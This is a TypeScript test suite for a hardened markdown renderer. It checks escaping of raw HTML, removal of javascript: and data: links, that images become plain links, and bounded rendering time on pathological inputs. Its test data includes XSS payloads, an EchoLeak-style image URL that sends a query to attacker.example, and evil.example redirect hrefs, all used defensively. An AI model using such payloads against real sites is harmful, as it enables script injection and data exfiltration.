import {micromark} from 'micromark'
import {gfm, gfmHtml} from 'micromark-extension-gfm'
import {helpSlugs, helpSource} from '../content/help'
import {
  MAX_MARKDOWN_LENGTH, MAX_NESTING, escapeHtml, prepareMarkdown, renderMarkdown,
} from './render-markdown'

const REL = 'rel="noopener noreferrer nofollow ugc"'
const resolveInternalHref = (path: string) => '/care/es' + path

/** What micromark itself makes of `source`, with our `rel` removed from the other side for comparison. */
function upstream(source: string): string {
  return micromark(source, {extensions: [gfm()], htmlExtensions: [gfmHtml()]})
}

/** Hale's output as micromark's: links without their `rel`, tables without their `tabindex`. */
function withoutRel(html: string): string {
  return html.replaceAll(' ' + REL, '').replaceAll('<table tabindex="0">', '<table>')
}

/** Deepest nesting of block quotes and lists in `html`. */
function maxDepth(html: string): number {
  let depth = 0
  let max = 0
  for (const [tag] of html.matchAll(/<\/?(?:blockquote|ul|ol)\b/g)) {
    depth += tag.startsWith('</') ? -1 : 1
    max = Math.max(max, depth)
  }
  return max
}

describe('renderMarkdown: CommonMark and GFM', () => {
  it.each([
    ['paragraph with emphasis, strong and code', 'Hello *world* and **bold** and `code`.',
      '<p>Hello <em>world</em> and <strong>bold</strong> and <code>code</code>.</p>'],
    ['soft line break', 'a\nb', '<p>a\nb</p>'],
    ['hard line break', 'a  \nb', '<p>a<br />\nb</p>'],
    ['headings', '# Title\n\n## Sub', '<h1>Title</h1>\n<h2>Sub</h2>'],
    ['bullet list', '- a\n- b', '<ul>\n<li>a</li>\n<li>b</li>\n</ul>'],
    ['ordered list', '3. a\n4. b', '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>'],
    ['loose list', '- a\n\n- b', '<ul>\n<li>\n<p>a</p>\n</li>\n<li>\n<p>b</p>\n</li>\n</ul>'],
    ['block quote', '> quote', '<blockquote>\n<p>quote</p>\n</blockquote>'],
    ['fenced code', '```js\nconst a = 1 < 2\n```', '<pre><code class="language-js">const a = 1 &lt; 2\n</code></pre>'],
    ['indented code', '    indented', '<pre><code>indented\n</code></pre>'],
    ['thematic break', '---', '<hr />'],
    ['GFM table (focusable: it may scroll sideways)', '| a | b |\n|---|:-:|\n| c | d |',
      '<table tabindex="0">\n<thead>\n<tr>\n<th>a</th>\n<th align="center">b</th>\n</tr>\n</thead>\n' +
      '<tbody>\n<tr>\n<td>c</td>\n<td align="center">d</td>\n</tr>\n</tbody>\n</table>'],
    ['a table tag typed as text', 'A <table> and `<table>`', '<p>A &lt;table&gt; and <code>&lt;table&gt;</code></p>'],
    ['a table tag typed as a block', '<table>', '&lt;table&gt;'],
    ['GFM strikethrough', '~~gone~~', '<p><del>gone</del></p>'],
    ['GFM task list', '- [ ] todo\n- [x] done',
      '<ul>\n<li><input type="checkbox" disabled="" /> todo</li>\n' +
      '<li><input type="checkbox" disabled="" checked="" /> done</li>\n</ul>'],
    ['text that needs escaping', 'a & b < c > d " e', '<p>a &amp; b &lt; c &gt; d &quot; e</p>'],
    ['a byte order mark', '\uFEFF# Hi', '<h1>Hi</h1>'],
    ['nothing', '', ''],
    ['only whitespace', ' \n\t\n', ''],
  ])('renders %s', (_, source, html) => {
    expect(renderMarkdown(source)).toBe(html)
  })

  it('renders GFM footnotes', () => {
    expect(renderMarkdown('Note[^1].\n\n[^1]: A footnote.')).toBe(
      '<p>Note<sup><a href="#user-content-fn-1" id="user-content-fnref-1" data-footnote-ref="" ' +
      'aria-describedby="footnote-label">1</a></sup>.</p>\n' +
      '<section data-footnotes="" class="footnotes"><h2 id="footnote-label" class="sr-only">Footnotes</h2>\n' +
      '<ol>\n<li id="user-content-fn-1">\n<p>A footnote. <a href="#user-content-fnref-1" data-footnote-backref="" ' +
      'aria-label="Back to reference 1" class="data-footnote-backref">↩</a></p>\n</li>\n</ol>\n</section>',
    )
  })

  it.each(helpSlugs.flatMap((slug) => ['en', 'es', 'fr', 'de'].map((locale) => [locale, slug] as const)))(
    'renders the %s help page %s exactly as micromark does, apart from rel',
    (locale, slug) => {
      const source = helpSource(locale, slug) as string
      expect(withoutRel(renderMarkdown(source))).toBe(upstream(source))
    },
  )

  it('renders a 90 KB document of help pages exactly as micromark does, although in chunks', () => {
    const page = helpSource('en', 'self-hosting') as string
    const source = Array.from({length: Math.floor(90_000 / page.length)}, () => page).join('\n')
    expect(prepareMarkdown(source).chunks.length).toBeGreaterThan(1)
    expect(withoutRel(renderMarkdown(source))).toBe(upstream(source))
  })
})

describe('renderMarkdown: raw HTML', () => {
  it.each([
    ['<script>alert(1)</script>', '&lt;script&gt;alert(1)&lt;/script&gt;'],
    ['<img src=x onerror=alert(1)>', '&lt;img src=x onerror=alert(1)&gt;'],
    ['text <b onclick="x()">bold</b>', '<p>text &lt;b onclick=&quot;x()&quot;&gt;bold&lt;/b&gt;</p>'],
    ['<!-- comment -->', '&lt;!-- comment --&gt;'],
    ['<svg><script>alert(1)</script></svg>', '<p>&lt;svg&gt;&lt;script&gt;alert(1)&lt;/script&gt;&lt;/svg&gt;</p>'],
  ])('shows %j as text', (source, html) => {
    expect(renderMarkdown(source)).toBe(html)
  })
})

describe('renderMarkdown: links', () => {
  it.each([
    ['[x](javascript:alert(1))', '<p>x</p>'],
    ['[x](JaVaScRiPt:alert(1))', '<p>x</p>'],
    ['[x](java&#115;cript:alert(1))', '<p>x</p>'],
    ['[x](vbscript:msgbox)', '<p>x</p>'],
    ['[x](data:text/html;base64,PHNjcmlwdD4=)', '<p>x</p>'],
    ['<javascript:alert(1)>', '<p>javascript:alert(1)</p>'],
    ['[x][a]\n\n[a]: javascript:alert(1)', '<p>x</p>\n'],
    ['[x]()', '<p>x</p>'],
  ])('drops the unsafe or empty target of %j and keeps the text', (source, html) => {
    expect(renderMarkdown(source)).toBe(html)
  })

  it.each([
    ['[x](https://example.com)', `<p><a href="https://example.com" ${REL}>x</a></p>`],
    ['[x](http://example.com "Title")', `<p><a href="http://example.com" ${REL} title="Title">x</a></p>`],
    ['[m](mailto:a@example.com)', `<p><a href="mailto:a@example.com" ${REL}>m</a></p>`],
    ['[x][ref]\n\n[ref]: https://example.com', `<p><a href="https://example.com" ${REL}>x</a></p>\n`],
    ['[r](relative/path)', `<p><a href="relative/path" ${REL}>r</a></p>`],
  ])('gives the external link %j rel="noopener noreferrer nofollow ugc"', (source, html) => {
    expect(renderMarkdown(source, {resolveInternalHref})).toBe(html)
  })

  it.each([
    ['www.example.com', `<p><a href="http://www.example.com" ${REL}>www.example.com</a></p>`],
    ['https://example.com/a?b=c', `<p><a href="https://example.com/a?b=c" ${REL}>https://example.com/a?b=c</a></p>`],
    ['see a@example.com', `<p>see <a href="mailto:a@example.com" ${REL}>a@example.com</a></p>`],
  ])('gives the GFM autolink literal %j the same rel', (source, html) => {
    expect(renderMarkdown(source)).toBe(html)
  })

  it.each([
    ['<https://example.com>', `<p><a href="https://example.com" ${REL}>https://example.com</a></p>`],
    ['<a@example.com>', `<p><a href="mailto:a@example.com" ${REL}>a@example.com</a></p>`],
  ])('gives the autolink %j the same rel', (source, html) => {
    expect(renderMarkdown(source)).toBe(html)
  })

  it.each([
    ['[p](/help/privacy)', '<p><a href="/care/es/help/privacy">p</a></p>'],
    ['[h](/)', '<p><a href="/care/es/">h</a></p>'],
    ['[x][ref]\n\n[ref]: /history', '<p><a href="/care/es/history">x</a></p>\n'],
  ])('resolves the internal link %j', (source, html) => {
    expect(renderMarkdown(source, {resolveInternalHref})).toBe(html)
  })

  it('leaves internal links alone without a resolver', () => {
    expect(renderMarkdown('[p](/help/privacy)')).toBe('<p><a href="/help/privacy">p</a></p>')
  })

  it.each([
    ['[e](//evil.example)', `<p><a href="//evil.example" ${REL}>e</a></p>`],
    ['[e](/\\evil.example)', `<p><a href="/%5Cevil.example" ${REL}>e</a></p>`],
    ['[e](</\t/evil.example>)', `<p><a href="/%09/evil.example" ${REL}>e</a></p>`],
  ])('treats %j as external, not as an internal path', (source, html) => {
    expect(renderMarkdown(source, {resolveInternalHref})).toBe(html)
  })

  it('keeps same-page fragments as they are', () => {
    expect(renderMarkdown('[f](#section)', {resolveInternalHref})).toBe('<p><a href="#section">f</a></p>')
  })

  it.each([
    ['[<https://a.example>](https://b.example)', `<p><a href="https://b.example" ${REL}>https://a.example</a></p>`],
    ['[www.a.example](https://b.example)', `<p><a href="https://b.example" ${REL}>www.a.example</a></p>`],
    ['[x[^1]](https://b.example)\n\n[^1]: y', `<p><a href="https://b.example" ${REL}>x<sup>1</sup></a></p>`],
  ])('never nests anchors: %j', (source, html) => {
    expect(renderMarkdown(source).slice(0, html.length)).toBe(html)
  })
})

describe('renderMarkdown: images', () => {
  it.each([
    ['![alt](https://x.example/y.png)', `<p><a href="https://x.example/y.png" ${REL}>alt</a></p>`],
    ['![alt *em*](https://x.example/y.png "T")', `<p><a href="https://x.example/y.png" ${REL} title="T">alt <em>em</em></a></p>`],
    ['![logo](/static/logo.png)', '<p><a href="/care/es/static/logo.png">logo</a></p>'],
    ['![x][img]\n\n[img]: https://x.example/y.png', `<p><a href="https://x.example/y.png" ${REL}>x</a></p>\n`],
    ['[![badge](https://x.example/b.svg)](https://x.example)', `<p><a href="https://x.example" ${REL}>badge</a></p>`],
    ['![a [b](https://c.example)](https://d.example)', `<p><a href="https://d.example" ${REL}>a b</a></p>`],
  ])('shows %j as a link to the image, not as <img>', (source, html) => {
    expect(renderMarkdown(source, {resolveInternalHref})).toBe(html)
  })

  it('shows the URL as the text of an image without alt text', () => {
    expect(renderMarkdown('![](https://x.example/y.png)')).toBe(
      `<p><a href="https://x.example/y.png" ${REL}>https://x.example/y.png</a></p>`,
    )
  })

  it('does not load the EchoLeak image: its URL is only a link', () => {
    const html = renderMarkdown('![](https://attacker.example/?q=chest%20pain)')
    expect(html).not.toContain('<img')
    expect(html).toBe(
      `<p><a href="https://attacker.example/?q=chest%20pain" ${REL}>https://attacker.example/?q=chest%20pain</a></p>`,
    )
  })

  it.each([
    ['![d](data:image/png;base64,AAAA)', '<p>d</p>'],
    ['![](data:image/png;base64,AAAA)', '<p></p>'],
    ['![x](javascript:alert(1))', '<p>x</p>'],
  ])('shows only the alt text of %j, whose URL is not allowed', (source, html) => {
    expect(renderMarkdown(source)).toBe(html)
  })

  it('never emits <img>', () => {
    const source = [
      '![a](https://x.example/a.png)', '![b](/b.png)', '![c](c.png)', '![d](data:image/png;base64,AAAA)',
      '![e][e]', '[e]: https://x.example/e.png', '<img src="https://x.example/f.png">', '[![g](g.png)](https://x.example)',
    ].join('\n\n')
    expect(renderMarkdown(source)).not.toMatch(/<img/i)
  })
})

describe('renderMarkdown: failures', () => {
  it('shows the text escaped when the resolver throws', () => {
    const html = renderMarkdown('[a](/x) *b* <i>\nc', {resolveInternalHref: () => { throw new Error('boom') }})
    expect(html).toBe('<p>[a](/x) *b* &lt;i&gt;<br />\nc</p>')
  })

  it('renders nothing for a value that is not a string', () => {
    expect(renderMarkdown(undefined as unknown as string)).toBe('')
  })
})

describe('renderMarkdown: bounded time', () => {
  const tableColumns = (columns: number) =>
    '|' + 'a|'.repeat(columns) + '\n|' + '-|'.repeat(columns) + '\n|' + 'b|'.repeat(columns)

  const pathological: Array<[string, string]> = [
    ["'- '.repeat(5000)", '- '.repeat(5000)],
    ["'- '.repeat(5000) + 'a'", '- '.repeat(5000) + 'a'],
    ["'>'.repeat(50_000)", '>'.repeat(50_000)],
    ["'> '.repeat(25_000)", '> '.repeat(25_000)],
    ["'1. '.repeat(5000)", '1. '.repeat(5000)],
    ["'* '.repeat(5000)", '* '.repeat(5000)],
    ["'* '.repeat(5000) + 'a'", '* '.repeat(5000) + 'a'],
    ["'> - '.repeat(5000)", '> - '.repeat(5000)],
    ["'[^a]: '.repeat(16_000)", '[^a]: '.repeat(16_000)],
    ["'['.repeat(50_000)", '['.repeat(50_000)],
    ["'*a'.repeat(20_000)", '*a'.repeat(20_000)],
    ["'*_'.repeat(50_000)", '*_'.repeat(50_000)],
    ["'**a'.repeat(33_000)", '**a'.repeat(33_000)],
    ["'~a'.repeat(25_000)", '~a'.repeat(25_000)],
    ["'`'.repeat(50_000)", '`'.repeat(50_000)],
    ['backtick runs of every length', Array.from({length: 440}, (_, i) => '`'.repeat(i + 1) + 'a').join('')],
    ["'[a]('.repeat(25_000)", '[a]('.repeat(25_000)],
    ["'![a]('.repeat(20_000)", '![a]('.repeat(20_000)],
    ["'[a'.repeat(16_000) + '](b)'.repeat(16_000)", '[a'.repeat(16_000) + '](b)'.repeat(16_000)],
    ["'[a]'.repeat(33_000)", '[a]'.repeat(33_000)],
    ["'[^a]'.repeat(25_000)", '[^a]'.repeat(25_000)],
    ["'[' + 'a, '.repeat(33_000)", '[' + 'a, '.repeat(33_000)],
    ["'\\\\*x a'.repeat(20_000)", '\\*x a'.repeat(20_000)],
    ['table with 5000 columns', tableColumns(5000)],
    ['table with 16,000 columns', tableColumns(16_000)],
    ['table row with 50,000 cells', '|a|b|\n|-|-|\n|' + 'x|'.repeat(49_990)],
    ['380 table rows of 128 cells', '|a|b|\n|-|-|\n' + ('|' + 'x|'.repeat(128) + '\n').repeat(380)],
    ['16,000 table rows', '|a|b|\n|-|-|\n' + '|x|y|\n'.repeat(16_000)],
    ['25,000 setext headings', 'a\n=\n'.repeat(25_000)],
    ['25,000 list items', '- a\n'.repeat(25_000)],
    ['12,000 task list items', '- [ ] a\n'.repeat(12_000)],
    ['lines of 16 nested list items', ('- '.repeat(16) + 'a\n').repeat(2900)],
    ['lines of 16 nested quotes and lists', ('> - '.repeat(8) + 'a\n').repeat(2900)],
    ['nesting by indentation', Array.from({length: 320}, (_, i) => ' '.repeat(2 * i) + '- a\n').join('').slice(0, 100_000)],
    ['a block quote with 49,000 lazy lines', '> a\n' + 'b\n'.repeat(49_000)],
    ['33,000 paragraphs', 'a\n\n'.repeat(33_000)],
    ['100,000 blank lines', '\n'.repeat(100_000)],
    ['25,000 hard breaks', 'a  \n'.repeat(25_000)],
    ['14,000 definitions', '[a]: b\n'.repeat(14_000)],
    ['12,000 footnote definitions', '[^a]: b\n'.repeat(12_000)],
    ['25,000 fences', '```\n'.repeat(25_000)],
    ['49,000 lines of fenced code', '```\n' + 'x\n'.repeat(49_000) + '```\n'],
    ['16,000 HTML lines', '<div>\n'.repeat(16_000)],
    ["'<a '.repeat(33_000)", '<a '.repeat(33_000)],
    ["'&#1'.repeat(33_000)", '&#1'.repeat(33_000)],
    ['100,000 backslashes', '\\'.repeat(100_000)],
    ["'www.a'.repeat(20_000)", 'www.a'.repeat(20_000)],
    ['1 MB of text', 'hello world '.repeat(90_000)],
  ]

  // A guard against hangs, not a speed target (those live in `npm run bench`): unbounded, these
  // inputs take micromark 18–45 s; bounded, well under a second on an idle machine. The limit
  // leaves room for a loaded 2-core CI machine.
  it.each(pathological)('renders %s without hanging (under 8 s)', (_, source) => {
    const start = performance.now()
    const html = renderMarkdown(source)
    const elapsed = performance.now() - start

    expect(typeof html).toBe('string')
    expect(html).not.toContain('<img')
    // Markers beyond MAX_NESTING are escaped; indentation can nest as deep again, twice.
    expect(maxDepth(html)).toBeLessThanOrEqual(3 * MAX_NESTING)
    expect(elapsed).toBeLessThan(8000)
  })

  it('renders 100 KB of ordinary markdown completely', () => {
    const block = 'Lorem ipsum dolor sit amet, *consectetur* adipiscing elit, sed do `eiusmod` tempor ' +
      '[incididunt](https://example.com) ut labore.\n\n- one item\n- two **item**\n\n'
    const source = block.repeat(Math.floor(MAX_MARKDOWN_LENGTH / block.length))
    const prepared = prepareMarkdown(source)
    expect(prepared.rest).toBe('')
    expect(prepared.chunks.join('')).toBe(source)
  })
})

describe('renderMarkdown: limits', () => {
  it('shows what is beyond MAX_MARKDOWN_LENGTH as escaped plain text', () => {
    const html = renderMarkdown('# a\n\n' + 'b'.repeat(MAX_MARKDOWN_LENGTH - 6) + '\n*tail* <i>\nend')
    expect(html.startsWith('<h1>a</h1>\n<p>bbbb')).toBe(true)
    expect(html.endsWith('</p>\n<p>*tail* &lt;i&gt;<br />\nend</p>')).toBe(true)
  })

  it('does not split a surrogate pair at MAX_MARKDOWN_LENGTH', () => {
    const html = renderMarkdown('a'.repeat(MAX_MARKDOWN_LENGTH - 1) + '😀b')
    expect(html.endsWith('\n<p>😀b</p>')).toBe(true)
  })

  it('shows what is beyond the structure allowance as escaped plain text', () => {
    const html = renderMarkdown('- a\n'.repeat(25_000))
    expect(html.startsWith('<ul>\n<li>a</li>\n')).toBe(true)
    expect(html.endsWith('- a<br />\n- a<br />\n</p>')).toBe(true)
  })

  it(`escapes the container marker that would nest deeper than MAX_NESTING (${MAX_NESTING})`, () => {
    expect(prepareMarkdown('- '.repeat(20) + 'a').chunks).toEqual(['- '.repeat(16) + '\\- - - - a'])
    expect(prepareMarkdown('>'.repeat(20)).chunks).toEqual(['>'.repeat(16) + '\\>>>>'])
    expect(prepareMarkdown('1. '.repeat(17) + 'a').chunks).toEqual(['1. '.repeat(16) + '1\\. a'])
    expect(prepareMarkdown('[^a]: '.repeat(17) + 'a').chunks).toEqual(['[^a]: '.repeat(16) + '\\[^a]: a'])
    expect(maxDepth(renderMarkdown('> - '.repeat(5000)))).toBe(MAX_NESTING)
  })

  it('leaves nesting up to MAX_NESTING alone', () => {
    const source = '> '.repeat(MAX_NESTING) + 'a'
    expect(prepareMarkdown(source).chunks).toEqual([source])
    expect(maxDepth(renderMarkdown(source))).toBe(MAX_NESTING)
  })

  it('leaves a long thematic break alone', () => {
    expect(renderMarkdown('* '.repeat(5000))).toBe('<hr />')
  })

  it('escapes emphasis and brackets beyond the allowance of a paragraph', () => {
    const [chunk] = prepareMarkdown('*a* '.repeat(150)).chunks
    expect(chunk).toBe('*a* '.repeat(100) + '\\*a\\* '.repeat(50))
  })

  it('escapes backtick runs of a fifth length in a paragraph', () => {
    const [chunk] = prepareMarkdown('`a` ``b`` ```c``` ````d```` `````e````` `f`').chunks
    expect(chunk).toBe('`a` ``b`` ```c``` ````d```` ' + '\\`'.repeat(5) + 'e' + '\\`'.repeat(5) + ' `f`')
  })

  it('escapes inline HTML openers beyond five in a paragraph, but not autolinks', () => {
    const html = '<b>a</b> <i>b</i> <!-- c --> <?d?> <e f="g"> <x>'
    const autolinks = Array.from({length: 7}, (_, i) => `<https://x${i}.example>`).join(' ')
    expect(prepareMarkdown(html).chunks).toEqual(['<b>a</b> <i>b</i> <!-- c --> \\<?d?> \\<e f="g"> \\<x>'])
    expect(renderMarkdown(html)).toBe('<p>' + escapeHtml(html).replaceAll('&#39;', "'") + '</p>')
    expect(prepareMarkdown(autolinks).chunks).toEqual([autolinks])
  })

  it('counts the allowance per paragraph', () => {
    const paragraph = '*a* '.repeat(100)
    const source = (paragraph + '\n\n').repeat(3)
    expect(prepareMarkdown(source).chunks.join('')).toBe(source)
  })

  it('never rewrites fenced code', () => {
    const source = '```py\n' + 'x = a_b * c_d[e]\n'.repeat(300) + '```\n'
    expect(prepareMarkdown(source).chunks.join('')).toBe(source)
  })

  it.each([
    ['inside an HTML block', '<pre>\n```\n</pre>\n'],
    ['after an indented fence', '  ```\nx\n```\n'],
    ['after a fence in a list item', '- a\n  ```\nb\n```\n'],
  ])('keeps limiting paragraphs after a fence %s', (_, before) => {
    const [chunk] = prepareMarkdown(before + '*_'.repeat(1000)).chunks
    expect(chunk).toContain('\\*\\_')
  })

  it('cuts a very long line into paragraphs', () => {
    const html = renderMarkdown('word '.repeat(2000))
    expect(html.match(/<p>/g)).toHaveLength(4)
  })
})
